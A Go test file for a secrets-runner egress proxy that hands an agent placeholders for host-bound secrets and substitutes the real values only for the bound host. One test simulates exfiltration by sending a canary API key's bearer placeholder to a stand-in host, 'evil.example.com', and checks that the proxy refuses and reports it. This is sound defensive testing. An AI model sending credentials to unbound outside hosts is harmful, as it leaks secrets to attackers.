package runner_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	scopev1 "github.com/ozsecrets/oz/proto/gen/oz/scope/v1"

	"github.com/ozsecrets/oz/cli/internal/runner"
	"github.com/ozsecrets/oz/lib/hostbind"
)

const boundCanary = "sk-canary-runner-Jm4qP8vX2"

// agentClient is an HTTP client configured only from env, as an agent's
// would be: the proxy from HTTPS_PROXY, the roots from SSL_CERT_FILE.
func agentClient(t *testing.T, env []string) *http.Client {
	t.Helper()
	get := func(name string) string {
		for _, kv := range env {
			if v, ok := strings.CutPrefix(kv, name+"="); ok {
				return v
			}
		}
		t.Fatalf("the agent's environment has no %s", name)
		return ""
	}
	proxy, err := url.Parse(get("HTTPS_PROXY"))
	if err != nil {
		t.Fatal(err)
	}
	pem, err := os.ReadFile(get("SSL_CERT_FILE"))
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM(pem) {
		t.Fatal("SSL_CERT_FILE holds no certificate")
	}
	return &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxy), TLSClientConfig: &tls.Config{RootCAs: roots}}}
}

// TestStartEgress: the bound var becomes a placeholder that the proxy
// swaps for the value on a request to the bound host; a request carrying
// it elsewhere is refused, reported once however often it is repeated,
// and counted; the CA files are gone after Close.
func TestStartEgress(t *testing.T) {
	var mu sync.Mutex
	var gotAuth []string
	up := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		gotAuth = append(gotAuth, r.Host+" "+r.Header.Get("Authorization"))
		mu.Unlock()
		io.WriteString(w, "you sent "+r.Header.Get("Authorization"))
	}))
	defer up.Close()
	roots := x509.NewCertPool()
	roots.AddCert(up.Certificate())

	var reported [][]*scopev1.EgressDenial
	var told []string
	vars := []runner.Var{
		{Name: "PLAIN", Value: []byte("plain-value-1")},
		{Name: "API_KEY", Value: []byte(boundCanary), Binding: &hostbind.Binding{Hosts: []string{"api.example.com"}}},
	}
	eg, err := runner.StartEgress(vars, runner.EgressConfig{
		AgentUID: -1, AgentGID: -1, Dir: t.TempDir(), RootCAs: roots,
		// Every name goes to the one test server.
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, network, up.Listener.Addr().String())
		},
		Report: func(_ context.Context, d []*scopev1.EgressDenial) error {
			mu.Lock()
			defer mu.Unlock()
			reported = append(reported, d)
			return nil
		},
		OnDenied: func(secret, host, reason string) {
			mu.Lock()
			defer mu.Unlock()
			told = append(told, secret+"@"+host)
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	var ph string
	for _, v := range eg.Vars() {
		if v.Binding != nil {
			t.Fatalf("Vars() holds a bound var: %s", v.Name)
		}
		if v.Name == "API_KEY" {
			ph = string(v.Value)
		}
		if v.Name == "PLAIN" && string(v.Value) != "plain-value-1" {
			t.Errorf("PLAIN changed: %q", v.Value)
		}
	}
	if !strings.HasPrefix(ph, hostbind.PlaceholderPrefix) || strings.Contains(ph, boundCanary) {
		t.Fatalf("API_KEY's agent value %q is not a placeholder", ph)
	}

	inherited := []string{"HTTPS_PROXY=http://corp:3128", "NO_PROXY=api.example.com", "SSL_CERT_FILE=/etc/corp.pem", "HOME=/h"}
	env := eg.Apply(inherited)
	for _, kv := range env {
		for _, stale := range []string{"corp", "NO_PROXY", "no_proxy"} {
			if strings.Contains(kv, stale) {
				t.Errorf("the agent's environment keeps %q", kv)
			}
		}
	}
	for _, name := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "https_proxy", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "NODE_USE_ENV_PROXY", "HOME"} {
		if !slices.ContainsFunc(env, func(kv string) bool { return strings.HasPrefix(kv, name+"=") }) {
			t.Errorf("the agent's environment lacks %s", name)
		}
	}
	var caFile string
	for _, kv := range env {
		if v, ok := strings.CutPrefix(kv, "SSL_CERT_FILE="); ok {
			caFile = v
		}
	}
	if fi, err := os.Stat(caFile); err != nil || fi.Mode().Perm()&0o004 == 0 {
		t.Fatalf("CA bundle %s: %v (mode %v), want readable by others", caFile, err, fi)
	}

	c := agentClient(t, env)
	do := func(host string) (int, string) {
		req, _ := http.NewRequest("GET", "https://"+host+"/v1/models", nil)
		req.Header.Set("Authorization", "Bearer "+ph)
		resp, err := c.Do(req)
		if err != nil {
			t.Fatalf("GET %s: %v", host, err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	code, body := do("api.example.com")
	if code != 200 || strings.Contains(body, boundCanary) || !strings.Contains(body, ph) {
		t.Errorf("bound host: %d %q; want 200 and the echo masked back to the placeholder", code, body)
	}
	mu.Lock()
	if len(gotAuth) != 1 || gotAuth[0] != "api.example.com Bearer "+boundCanary {
		t.Errorf("upstream got %q, want the value in Authorization", gotAuth)
	}
	mu.Unlock()
	for range 3 {
		if code, body := do("evil.example.com"); code != 403 || !strings.Contains(body, "API_KEY") {
			t.Errorf("unbound host: %d %q; want 403 naming the secret", code, body)
		}
	}

	counts := eg.Close(context.Background())
	if _, err := os.Stat(caFile); !os.IsNotExist(err) {
		t.Errorf("CA bundle after Close: %v, want removed", err)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(reported) != 1 || len(reported[0]) != 1 {
		t.Fatalf("reported %v, want one report of one denial (repeats are counted, not reported)", reported)
	}
	if d := reported[0][0]; d.GetHost() != "evil.example.com" || d.GetSecretName() != "API_KEY" || d.GetReason() == "" {
		t.Errorf("reported denial %v", d)
	}
	if !slices.Equal(told, []string{"API_KEY@evil.example.com"}) {
		t.Errorf("told %q", told)
	}
	want := map[string][2]int64{"api.example.com": {1, 0}, "evil.example.com": {0, 3}}
	if len(counts) != len(want) {
		t.Errorf("counts %v, want %v", counts, want)
	}
	for _, c := range counts {
		if w := want[c.GetHost()]; w != [2]int64{c.GetSubstitutions(), c.GetDenials()} {
			t.Errorf("counts for %s: %d substitutions, %d denials; want %v", c.GetHost(), c.GetSubstitutions(), c.GetDenials(), w)
		}
	}
}

// TestNeedsEgress: only a bound secret or an allowlist starts a proxy.
func TestNeedsEgress(t *testing.T) {
	plain := []runner.Var{{Name: "A", Value: []byte("x")}}
	bound := append(slices.Clone(plain), runner.Var{Name: "B", Value: []byte(boundCanary), Binding: &hostbind.Binding{Hosts: []string{"a.example.com"}}})
	if runner.NeedsEgress(plain, nil) || !runner.NeedsEgress(bound, nil) || !runner.NeedsEgress(plain, []string{"a.example.com"}) {
		t.Error("NeedsEgress disagrees")
	}
}

// TestStartEgressAgentCannotReachCA: with the agent as another user, a
// runner's TMPDIR that user cannot pass through is refused before the run
// starts, rather than every TLS request of the agent failing.
func TestStartEgressAgentCannotReachCA(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root, to give the CA's directory to another user (the e2e --as-user case covers the rest)")
	}
	// Directories of their own under the system's temporary directory:
	// t.TempDir's parent is 0700.
	dir := func(mode os.FileMode) string {
		d, err := os.MkdirTemp("/tmp", "oz-egress-test-") // /tmp: searchable by all
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(d) })
		if err := os.Chmod(d, mode); err != nil {
			t.Fatal(err)
		}
		return d
	}
	private := dir(0o700)
	vars := []runner.Var{{Name: "API_KEY", Value: []byte(boundCanary), Binding: &hostbind.Binding{Hosts: []string{"api.example.com"}}}}
	_, err := runner.StartEgress(vars, runner.EgressConfig{AgentUID: 65534, AgentGID: 65534, Dir: private})
	if err == nil || !strings.Contains(err.Error(), "cannot pass through "+private+":") {
		t.Fatalf("StartEgress under a 0700 directory: %v, want it refused naming %s", err, private)
	}
	if entries, _ := os.ReadDir(private); len(entries) != 0 {
		t.Errorf("left %d entries behind", len(entries))
	}
	open := dir(0o755)
	eg, err := runner.StartEgress(vars, runner.EgressConfig{AgentUID: 65534, AgentGID: 65534, Dir: open})
	if err != nil {
		t.Fatalf("StartEgress under a searchable directory: %v", err)
	}
	eg.Close(context.Background())
}
